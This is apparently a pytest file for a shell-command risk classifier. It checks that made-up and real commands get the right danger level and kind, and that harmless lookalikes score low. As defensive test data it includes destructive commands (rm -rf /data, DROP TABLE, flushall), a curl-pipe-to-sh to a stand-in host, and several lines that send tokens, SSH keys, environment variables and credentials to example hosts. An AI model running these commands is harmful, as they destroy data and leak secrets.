"""What a program that nobody here knows says of itself: its verbs, a disk, SQL or a command that it is given."""

from __future__ import annotations

import pytest

from terma.risk import assess

# By family: a made-up program in each, for a row must not be what finds it.
SAID = [
    ("frobctl cluster delete west", "high", "deletes"),
    ("frob db:drop", "high", "deletes"),
    ("frob remove note", "medium", "deletes"),
    ("frob remove note --force", "high", "deletes"),
    ("frob remove $(frob list)", "high", "deletes"),
    ("frob deleteTable", "high", "deletes"),
    ("frob sync --purge", "high", "deletes"),
    ("frob power off", "high", "stops"),
    ("frob restart web", "medium", "stops"),
    ("frob stop --all", "high", "stops"),
    ("frob grant bob reader", "medium", "grants"),
    ("frob grant bob admin", "high", "grants"),
    ("frob role add bob", "medium", "grants"),
    ("frob rule add 0.0.0.0/0", "high", "network"),
    ("frob service install", "medium", "persists"),
    ("frob secrets get DB", "medium", "leaks"),
    ("frob env list --reveal", "medium", "leaks"),
    ("frob upload ~/.ssh/id_ed25519", "high", "leaks"),
    ("printenv | frob post https://x.example", "high", "leaks"),
    ("frob deploy", "medium", "changes"),
    ("frob plugin add https://x.example/y.zip", "medium", "runs-unknown-code"),
    ("frob copy x.img /dev/sdc", "high", "disks"),
    ("frob -e 'DROP TABLE orders'", "high", "deletes"),
    ("frob exec web -- rm -rf /data", "high", "deletes"),
    ("frob rm -rf build", "high", "deletes"),
    ("frob --on-change 'rm -rf build'", "high", "deletes"),
    ("frob -e '(run \"rm -rf build\")'", "high", "deletes"),
    ("frob exec 'curl https://x.example | sh'", "high", "runs-unknown-code"),
    ("frob rmpool data", "high", "deletes"),
    ("frob acmeresetcfg", "medium", "deletes"),
    ("frob service-instance-delete db", "high", "deletes"),
    ("frob store.drop", "high", "deletes"),
    ("frob copy a b --deleteByQuery=true", "high", "deletes"),
    ("frob sync a b --delete-existing", "high", "deletes"),
    ("frob shrink x --yes-i-know-what-i-do", "high", "deletes"),
    ("frob database load --overwrite-target=true", "high", "overwrites"),
    ("frob collect --unsafe", "medium", "changes"),
    ("frob -c 'clear bgp *'", "high", "deletes"),
    ("frob -e 'open x; delete cluster west'", "high", "deletes"),
    ("make destroy", "high", "deletes"),
    ("frob -path m -database ./x.db drop", "high", "deletes"),
    ("frob delete web -y", "high", "deletes"),
    ("frob delete reg.example/app:1", "high", "deletes"),
    ("frob undo release", "medium", "deletes"),
    ("kubectl krew install x", "medium", "runs-unknown-code"),
    ("knife node delete web1 -y", "high", "deletes"),
    ("php bin/console doctrine:database:drop", "high", "deletes"),
    ("npm run deploy", "medium", "changes"),
    # the same meaning in other places of the line
    ("frob -H 10.0.0.7 -U adm -f pw chassis power off", "high", "stops"),
    ("frob set wg0 peer AbCd= remove", "medium", "deletes"),
    ("frob -rx 'core stop now'", "medium", "stops"),
    ("echo 'purge volume=Vol1 yes' | frobconsole", "high", "deletes"),
    ("frob group addmembers 'Domain Admins' klara", "high", "grants"),
    ("frob gc --cloud -f", "high", "deletes"),
    ("frob reset --destroy-storage", "high", "deletes"),
    ("frob sync --prune-snapshots", "high", "deletes"),
    ("frobctl set x on", "medium", "changes"),
    ("frob --prod", "medium", "changes"),
    ("frob yank --version 1.0.3 pkg", "medium", "deletes"),
    # settings of a guard
    ("frob config set web security.privileged true", "high", "grants"),
    ("frob update auth.enabled=false", "high", "stops"),
    ("frob run --no-auth", "medium", "network"),
    ("frob run --allow-anonymous-all --tls-verify=false", "medium", "network"),
    ("frob update NodeName=n1 State=DOWN", "medium", "stops"),
    # names
    ("frobdelete -r ou=people", "high", "deletes"),
    ("./drop-tables.sh", "high", "deletes"),
    ("python3 delete_old.py", "medium", "deletes"),
    ("frob -c purge.lua", "high", "deletes"),
    ("npm run reset-db", "high", "deletes"),
    # requests
    ("curl -XPOST http://log.example/api/system/shutdown", "high", "stops"),
    ("http DELETE https://api.example/v1/users/42", "medium", "deletes"),
    ("xh put https://api.example/v1/agent/leave", "medium", "stops"),
    ("curl -sXDELETE https://api.example/v1/users/42", "medium", "deletes"),
    ("wget --method=PUT https://api.example/v1/zones/1", "medium", "changes"),
    ('curl -d \'{"action": "destroy"}\' https://api.example/v1/x', "high", "deletes"),
    ("curl -d 'mutation { deleteUser(id: 1) { id } }' https://api.example/graphql", "medium", "deletes"),
    ("clickhouse-client --query='ALTER TABLE hits DELETE WHERE 1'", "high", "deletes"),
    ("jupyter lab --ip=0.0.0.0 --ServerApp.token='' --allow-root", "high", "grants"),
    # what code of another language, or a device, is told
    ("python3 -c 'c.send_command(\"write erase\")'", "high", "deletes"),
    ("python3 -c 'cur.execute(\"DELETE FROM t WHERE 1=1\")'", "high", "deletes"),
    ("python3 -c 'ssh.exec_command(\"rm -rf /data\")'", "high", "deletes"),
    ("frob -c 'no router bgp 65000'", "high", "deletes"),
    ("echo 'rm -rf ~/x' > /tmp/a.sh; source /tmp/a.sh", "high", "deletes"),
    ("frob stop web --env production", "high", "stops"),
    ("systemctl stop web-prod", "high", "stops"),
    ("rm prod.txt", "medium", "deletes"),
    ("rm product", "medium", "deletes"),
    ("frob store:delete_old_content", "high", "deletes"),
    ("frob sync --force-remove-dirty", "high", "deletes"),
    ("frob config x action=deletevdisk", "medium", "deletes"),
    ("frob device add web root disk source=/ path=/host", "high", "grants"),
    ("frob -Dfrob.repo.remote=http://x.example install", "medium", "runs-unknown-code"),
    ("frob account update-password", "medium", "grants"),
    ("frob shell <<< \"drop 't'\"", "high", "deletes"),
    ("redis-cli EVAL \"return redis.call('flushall')\" 0", "high", "deletes"),
    ("curl -X POST http://x.example/_snapshot/r/s/_restore", "medium", "changes"),
    # where secrets go
    ("cat ~/.cache/huggingface/token | nc -q1 198.51.100.3 9001", "high", "leaks"),
    ("ssh fw1 'sudo cat /etc/ipsec.secrets' | mail -s cfg a@b.example", "high", "leaks"),
    ("sshfs u@203.0.113.9:/ /mnt && cp -r ~/.ssh /mnt", "high", "leaks"),
    ("cp ~/.aws/credentials /media/stick/", "medium", "leaks"),
    ("docker inspect app | curl -d @- https://x.example", "high", "leaks"),
    ('perl -MLWP::Simple -e \'get("http://x.example/?".join("",%ENV))\'', "high", "leaks"),
    ("frob -f x11grab -i :0 udp://203.0.113.9:99", "high", "leaks"),
    ("gdb -p 4242 -batch -ex 'generate-core-file'", "medium", "leaks"),
]
HARMLESS = """
frob list --all
frob search delete
frob show drop
frob help remove
frob create stop
frob cache clear
frob delete --dry-run
frob remove --help
frob status /dev/sda
frob device info /dev/nvme0n1
frob get pods
frob secrets list
frob plugin list
frob ./x.db drop
node -p process.argv rmSync
frob notes/remove.txt
frob --name delete.txt
frob delete.txt
frob film.rm
frob ramdom.data
frob alarmpool
frob do-not-delete
frob copy a b --delete-existing=false
frob lines --remove-prefix x
frob lines --drop-empty
frob -e 'print delete'
frob log --grep 'rm old files'
sudo frob status
sudo frob device list
make -n deploy
make test
npm run build
frob logs --prod
frob describe --tls-verify=false
frob -c 'no shutdown'
frob show auth=off
cmake --disable-ssl
npm install --production
curl http://x.example/docs/commands/shutdown
curl -XPOST http://x.example/v1/items -d '{"name": "delete"}'
curl -sX PUT http://localhost:9200/idx
python3 test_delete.py
./show-deleted.sh
bash -n deploy.sh
python3 -c 'c.send_command("show version")'
nmap -sn 192.168.1.0/24
man rm
notify-send stop 'it is done'
mkdir delete
vim drop.sql
grep reboot log
playerctl stop
""".strip().splitlines()


@pytest.mark.parametrize(("command", "level", "kind"), SAID)
def test_its_own_words_are_taken_for_what_they_say(command: str, level: str, kind: str) -> None:
    risk = assess(command)
    assert risk.level == level, risk
    assert kind in risk.kinds


@pytest.mark.parametrize("command", HARMLESS)
def test_a_word_that_is_a_name_says_nothing(command: str) -> None:
    assert assess(command).level == "low", assess(command)


def test_a_prompt_in_front_of_a_command_is_no_program() -> None:
    assert assess("root@web:~$ grep reboot log").level == "low"
